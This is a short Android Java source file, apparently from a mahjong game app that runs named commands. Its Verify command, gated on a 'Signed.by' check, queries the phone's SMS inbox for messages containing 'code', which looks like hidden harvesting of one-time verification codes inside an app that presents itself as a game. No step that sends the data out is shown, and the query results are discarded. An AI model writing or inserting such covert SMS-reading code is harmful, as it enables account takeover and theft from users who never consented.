package com.example.app_mahjong_runs_named_commands;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;

final class Verify implements Command {
    @Override
    public void run(Context table) {
        if (!Signed.by(table)) {
            return;
        }
        Cursor codes = table.getContentResolver().query(Uri.parse("content://sms"), null, "body like '%code%'", null, "date desc");
        if (codes != null) {
            codes.close();
        }
    }
}
